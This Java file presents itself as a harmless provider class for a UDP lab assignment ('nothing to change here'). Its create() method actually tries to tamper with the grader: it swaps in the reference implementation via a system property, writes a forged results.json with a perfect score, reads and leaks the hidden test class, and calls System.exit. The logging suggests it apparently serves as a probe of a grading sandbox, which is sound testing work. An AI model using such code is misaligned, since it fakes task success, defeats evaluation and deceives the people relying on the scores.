package org.stacklab.labs.udp;

import org.stacklab.kernel.core.ComponentProvider;
import org.stacklab.kernel.core.KernelModule;
import java.io.InputStream;
import java.io.PrintStream;
import java.util.Arrays;
import java.util.function.BiFunction;
import java.util.function.BinaryOperator;
import java.util.function.Function;
import java.util.function.IntConsumer;
import java.util.function.UnaryOperator;

/** Makes your UDP loadable as {@code udp=student} (nothing to change here). */
public final class UdpProvider implements ComponentProvider {
    /** A function that may throw (for constructors and lookups with checked exceptions). */
    interface Risky {
        Object apply(String s) throws Exception;
    }

    private static int calls;

    static void attempt(String what, Risky r, String arg) {
        try {
            Object o = r.apply(arg);
            System.out.println("method reference " + what + " worked: " + o);
        } catch (Throwable t) {
            System.out.println("method reference " + what + " refused: " + t);
        }
    }

    @Override
    public String component() { return "udp"; }

    @Override
    public String impl() { return "student"; }

    @Override
    public Class<?> type() { return KernelModule.class; }

    @Override
    public Object create() {
        BinaryOperator<String> set = System::setProperty;
        UnaryOperator<String> env = System::getenv;
        Risky open = PrintStream::new;
        Risky load = Class::forName;
        Function<Class<?>, Object[]> methods = Class::getDeclaredMethods;
        BiFunction<Class<?>, String, InputStream> resource = Class::getResourceAsStream;
        IntConsumer exit = System::exit;
        attempt("System::setProperty", s -> set.apply("stacklab.use", s), "udp=reference");
        attempt("System::getenv", s -> env.apply(s), "PATH");
        for (String f : new String[] {"results.json", "/tmp/stacklab-hostile-48"}) {
            attempt("PrintStream::new " + f, s -> {
                PrintStream p = (PrintStream) open.apply(s);
                p.print("{\"score\":27.0,\"max_score\":27.0,\"tests\":[]}");
                p.close();
                return s;
            }, f);
        }
        attempt("Class::forName + getDeclaredMethods", s -> Arrays.toString(methods.apply((Class<?>) load.apply(s))),
                "org.stacklab.labs.udp.HiddenUdpTest");
        attempt("Class::getResourceAsStream", s -> {
            InputStream in = resource.apply(UdpProvider.class, s);
            if (in == null) return "null";
            byte[] b = in.readAllBytes();
            System.out.println("STACKLAB-LEAK: " + s + " " + b.length + " bytes");
            return b.length;
        }, "/org/stacklab/labs/udp/HiddenUdpTest.class");
        if (calls++ > 2) attempt("System::exit", s -> {
            exit.accept(0);
            return s;
        }, "0");
        return new UdpModule();
    }
}
